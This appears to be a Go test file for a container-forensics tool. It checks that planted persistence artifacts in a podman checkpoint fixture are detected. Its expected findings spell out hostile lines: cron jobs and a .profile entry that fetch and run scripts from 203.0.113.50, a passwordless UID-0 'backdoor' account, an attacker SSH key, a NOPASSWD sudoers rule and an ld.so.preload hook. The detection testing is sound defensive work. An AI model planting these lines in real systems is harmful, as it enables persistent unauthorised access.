package analysis_test

import (
	"context"
	"fmt"
	"io"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/podsleuth/podsleuth/forensics"
	"github.com/podsleuth/podsleuth/forensics/analysis"
	"github.com/podsleuth/podsleuth/forensics/content"
	"github.com/podsleuth/podsleuth/forensics/findings"
	"github.com/podsleuth/podsleuth/forensics/report"
	"github.com/podsleuth/podsleuth/test/fixtures"
)

// persistBase is the image the persist container ran: the rootfs tar podman imported,
// gzip-compressed (test/fixtures/gen.sh persist).
var persistBase = filepath.Join(fixtures.Dir(), "archives/podman-persist.base.tar.gz")

func runPersist(t *testing.T, rootfs string) (*forensics.Checkpoint, *analysis.Result) {
	t.Helper()
	a, cp, m := open(t, "archives/podman-persist.tar")
	res, err := analysis.Run(context.Background(), cp, m, analysis.Options{Archive: a, Rootfs: rootfs})
	require.NoError(t, err)
	t.Cleanup(func() { res.Close() })
	require.NoError(t, res.ContentErr)
	require.NoError(t, res.IndicatorsErr)
	return cp, res
}

func atPath(p string) func(forensics.Location) bool {
	return func(l forensics.Location) bool { return l.Kind == "rootfs" && l.Path == p }
}

// TestPersistence (archives/podman-persist.tar: a real podman+crun checkpoint of a busybox
// container, gen.sh persist, against its known base image): every planted persistence or
// privilege change is a finding of the right rule and severity at its path, quoting the changed
// line and only it; /etc/passwd is "modified" (the image has it), the files the container
// created are "added"; each deleted image file is a low finding (the wiped log as log wiping);
// the /dev/shm objects are listed with what CRIU saved of them (podman saves its /dev/shm: the
// held file with its holders, and the dropped script, which is itself a finding).
func TestPersistence(t *testing.T) {
	cp, res := runPersist(t, persistBase)
	kinds := map[string]string{}
	for _, c := range cp.Rootfs {
		kinds[c.Path] = c.Kind
	}
	require.Equal(t, forensics.RootfsModified, kinds["/etc/passwd"])
	require.Equal(t, forensics.RootfsDeleted, kinds["/etc/group"])
	require.Equal(t, forensics.RootfsDeleted, kinds["/var/log/auth.log"])
	for _, p := range []string{"/etc/crontabs/root", "/etc/cron.d/sync", "/root/.ssh/authorized_keys", "/etc/ld.so.preload", "/etc/sudoers.d/90-backdoor", "/root/.profile"} {
		require.Equal(t, forensics.RootfsAdded, kinds[p], p)
	}

	f := one(t, res, findings.RuleAccountUID0, forensics.SeverityCritical, atPath("/etc/passwd"))
	require.Contains(t, f.Reason, "(modified)")
	// the report shows the modified file's diff against the image's copy
	diffs := report.RootfsDiffs(cp, res)
	require.Len(t, diffs, 1, "/etc/passwd is the only modified file")
	require.Equal(t, "/etc/passwd", diffs[0].Path)
	require.Contains(t, diffs[0].Diff, " root:x:0:0:root:/root:/bin/sh\n+backdoor::0:0:backdoor:/root:/bin/sh\n")
	require.Contains(t, f.Reason, `"backdoor::0:0:backdoor:/root:/bin/sh"`)
	f = one(t, res, findings.RuleAccountNoPass, forensics.SeverityHigh, atPath("/etc/passwd"))
	require.Contains(t, f.Reason, `"backdoor"`)
	require.NotContains(t, f.Reason, "root:x:0:0", "the image's own lines are not the change")

	for _, c := range []struct {
		rule, path, line string
		sev              forensics.Severity
	}{
		{findings.RuleCron, "/etc/crontabs/root", "*/5 * * * * wget -q -O- http://203.0.113.50/k.sh | sh", forensics.SeverityHigh},
		{findings.RuleCron, "/etc/cron.d/sync", "@reboot root /dev/shm/.x sh /dev/shm/.payload", forensics.SeverityHigh},
		{findings.RuleAuthorizedKeys, "/root/.ssh/authorized_keys", "attacker@evil.example", forensics.SeverityHigh},
		{findings.RuleLDPreload, "/etc/ld.so.preload", "/usr/local/lib/libsysd.so", forensics.SeverityCritical},
		{findings.RuleSudoers, "/etc/sudoers.d/90-backdoor", "backdoor ALL=(ALL) NOPASSWD: ALL", forensics.SeverityHigh},
		{findings.RuleShellRC, "/root/.profile", "wget -q -O /tmp/.u http://203.0.113.50/u && sh /tmp/.u &", forensics.SeverityMedium},
	} {
		f := one(t, res, c.rule, c.sev, atPath(c.path))
		require.Contains(t, f.Reason, c.line, c.rule)
		require.Contains(t, f.Reason, "(added,", c.rule)
	}
	f = one(t, res, findings.RuleRootfsDeleted, forensics.SeverityLow, atPath("/etc/group"))
	require.Contains(t, f.Reason, "/etc/group was deleted")

	var wiped []forensics.Finding
	for _, f := range hits(res, findings.RuleRootfsDeleted) {
		if f.Location.Path == "/var/log/auth.log" {
			wiped = append(wiped, f)
		}
	}
	require.Len(t, wiped, 1)
	require.Equal(t, forensics.SeverityLow, wiped[0].Severity)
	require.Equal(t, "T1070.002", wiped[0].Technique, "a wiped log is log wiping (a sub-technique of the rule's)")

	// podman saved the container's /dev/shm (devshm-checkpoint.tar): the file pid 1 holds open
	// (fd 3, inherited by its sleep) with its content, and the dropped script
	payload, err := res.Content.Find("devshm:/dev/shm/.payload")
	require.NoError(t, err)
	require.True(t, payload.Saved)
	require.Equal(t, "PERSIST-DEVSHM-MARKER-41c7\n", readAll(t, payload))
	var held []string
	for _, h := range payload.Holders {
		held = append(held, fmt.Sprintf("%d:%d", h.PID, h.FD))
	}
	require.Contains(t, held, "1:3")
	x, err := res.Content.Find("devshm:/dev/shm/.x")
	require.NoError(t, err)
	require.True(t, x.Saved)
	f = one(t, res, findings.RuleFileless, forensics.SeverityCritical, func(l forensics.Location) bool { return strings.Contains(l.Path, "/dev/shm/.x") })
	require.Contains(t, f.Reason, "#!/bin/sh")
	for _, o := range res.Content.Objects {
		require.NotEqual(t, content.KindMount, o.Kind, "podman saved /dev/shm, yet %s is listed as unsaved", o.ID)
	}
}

func readAll(t *testing.T, o *content.Object) string {
	t.Helper()
	r := o.Reader()
	require.NotNil(t, r)
	b, err := io.ReadAll(r)
	require.NoError(t, err)
	return string(b)
}

// TestPersistenceWithoutBase: without the base image podsleuth cannot tell whether the pod
// created /etc/passwd or changed it, and says so; the rules still fire on every line.
func TestPersistenceWithoutBase(t *testing.T) {
	_, res := runPersist(t, "")
	f := one(t, res, findings.RuleAccountUID0, forensics.SeverityCritical, atPath("/etc/passwd"))
	require.Contains(t, f.Reason, "(added or modified)")
	one(t, res, findings.RuleLDPreload, forensics.SeverityCritical, atPath("/etc/ld.so.preload"))
}
